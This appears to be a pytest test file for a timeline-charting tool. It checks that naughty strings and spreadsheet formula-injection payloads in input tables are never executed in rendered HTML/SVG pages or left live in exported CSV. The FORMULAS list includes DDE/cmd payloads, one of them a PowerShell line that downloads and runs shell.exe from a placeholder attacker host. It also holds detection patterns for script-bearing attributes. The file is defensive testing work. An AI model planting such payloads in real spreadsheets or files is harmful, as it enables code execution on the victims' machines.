"""Texts that break naive programs: every row drawn or reported, nothing executed."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from xml.etree.ElementTree import fromstring

import pytest

from tests.internals import CONVERT_FORMATS as FORMATS
from tests.internals import Chart, bars_chart, gantt_chart
from tests.window import Window
from timeline import EventTable, convert, read_events, render

pytestmark = pytest.mark.slow

LIST = Path(__file__).parent / "real_tables" / "blns" / "blns.json"
#: Cells that a spreadsheet would run, as lists of such payloads have them.
FORMULAS = (
    'DDE ("cmd";"/C calc";"!A0")A0',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org","click")',
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''=1+1",
)
NAUGHTY: tuple[str, ...] = (*json.loads(LIST.read_text(encoding="utf-8")), *FORMULAS)
#: Bars are for fewer rows than a Gantt.
PART = 120
#: Notes whatever a page would run of the texts in it.
WATCH = """
window.ran = [];
for (const name of ["alert", "confirm", "prompt", "print", "open"])
  window[name] = (...told) => { window.ran.push(name + told.join()); };
"""
#: What would be there if a text had become more than a text.
GREW = """(() => {
  const all = [...document.querySelectorAll("*")];
  const acts = all.filter((e) => [...e.attributes].some((a) => /^on/i.test(a.name)));
  const leads = all.filter((e) => /^\\s*(javascript|vbscript|data:text)/i.test(
    e.getAttribute("href") || e.getAttribute("src") || e.getAttribute("xlink:href") || ""));
  const odd = document.querySelectorAll("iframe, object, embed, marquee, audio, video, form");
  return [window.ran, acts.length, leads.length, odd.length];
})()"""


def written(columns: dict[str, list[str]]) -> bytes:
    """Return a CSV as any program writes it."""
    file = io.StringIO(newline="")
    rows = csv.writer(file, quoting=csv.QUOTE_ALL)
    rows.writerow(columns)
    rows.writerows(zip(*columns.values(), strict=True))
    return file.getvalue().encode()


def events() -> EventTable:
    days = [f"1953-{1 + n // 28 % 12:02}-{1 + n % 28:02}" for n in range(len(NAUGHTY))]
    texts = list(NAUGHTY)
    columns = {"title": texts, "start": days, "note": texts, "group": [t[:20] for t in texts]}
    return read_events(written(columns))


def claims(texts: list[str]) -> EventTable:
    said: dict[str, list[str]] = {"title": texts, "side": texts, "claimed_by": texts}
    said |= {"note": texts, "source": texts}
    fixed = {"start": "1953", "measure": "killed", "value": "7", "unit": "men"}
    return read_events(written({**said, **{k: [v] * len(texts) for k, v in fixed.items()}}))


@pytest.fixture(scope="module")
def window() -> Iterator[Window]:
    with Window() as opened:
        opened.send("Page.addScriptToEvaluateOnNewDocument", source=WATCH)
        yield opened


def test_every_text_is_a_row_and_kept_to_the_letter() -> None:
    table = events()
    assert len(table) == table.rows_read == len(NAUGHTY)
    # Blanks around a cell mean nothing, and an apostrophe before a formula is the reader's own.
    for given, kept in zip(NAUGHTY, table.frame["title"].tolist(), strict=True):
        plain = given[1:] if re.match(r"'+[=+\-@\t\r]", given) else given
        assert kept.strip() == plain.strip()
    empty = [row for row, title in enumerate(table.frame["title"]) if not title]
    told = [problem.line for problem in table.problems if problem.code == "missing-title"]
    assert sorted(told) == sorted(table.frame["line"].iloc[empty].tolist())
    assert gantt_chart(table).account["rows"] == {
        "read": len(NAUGHTY), "drawn": len(NAUGHTY), "left_out": {},
    }  # fmt: skip


def charts() -> list[Chart]:
    parts = [list(NAUGHTY[at : at + PART]) for at in range(0, len(NAUGHTY), PART)]
    return [gantt_chart(events()), *(bars_chart(claims(p), measure="killed") for p in parts)]


@pytest.mark.browser
def test_pages_never_run_text_of_a_table(window: Window, tmp_path: Path) -> None:
    for number, chart in enumerate(charts()):
        path = tmp_path / f"{number}.html"
        path.write_bytes(render(chart, {"html"})["html"])
        assert window.open(path.as_uri()) == 1
        assert window.ask(GREW) == [[], 0, 0, 0]
        asked = {address for address in window.asked if not address.startswith("data:font/woff2")}
        assert asked <= {path.as_uri()}
        assert window.complaints == []


@pytest.mark.browser
def test_pictures_are_sound_and_run_nothing(window: Window, tmp_path: Path) -> None:
    for number, chart in enumerate(charts()):
        made = render(chart, {"svg"})["svg"]
        tags = {element.tag.rpartition("}")[2] for element in fromstring(made).iter()}
        assert not tags & {"script", "foreignObject", "iframe", "image"}
        path = tmp_path / f"{number}.svg"
        path.write_bytes(made)
        window.send("Page.navigate", url=path.as_uri())
        window.ask("new Promise((done) => setTimeout(done, 50))")
        found: list[Any] = window.ask(GREW)
        assert found == [[], 0, 0, 0]


@pytest.mark.parametrize("name", ["csv", "timelinejs"])
def test_no_cell_of_an_exported_table_is_a_formula(name: str) -> None:
    rows = list(csv.reader(io.StringIO(convert(events(), to=name).text, newline="")))
    assert len(rows) == len(NAUGHTY) + 1
    for cell in (cell for row in rows for cell in row):
        assert not re.match(r"[=+\-@\t\r]", cell) or re.fullmatch(r"-\d+(\.\d+)?", cell), cell


def test_an_exported_table_comes_back_to_the_letter() -> None:
    table = events()
    again = read_events(convert(table, to="csv").text.encode())
    for column in ("title", "note", "group"):
        assert again.frame[column].tolist() == table.frame[column].tolist()


@pytest.mark.parametrize("name", FORMATS)
def test_every_format_holds_every_row(name: str) -> None:
    table = events()
    text = convert(table, to=name).text
    counted = {
        "csv": lambda: len(read_events(text.encode())),
        "timelinejs": lambda: len(list(csv.reader(io.StringIO(text, newline="")))) - 1,
        "vis-timeline": lambda: len(json.loads(text)["items"]),
        "mermaid": lambda: len(re.findall(r" :(?:milestone, )?1953-", text)),
        "icalendar": lambda: text.count("BEGIN:VEVENT\r\n"),
    }[name]()
    assert counted == len(NAUGHTY)
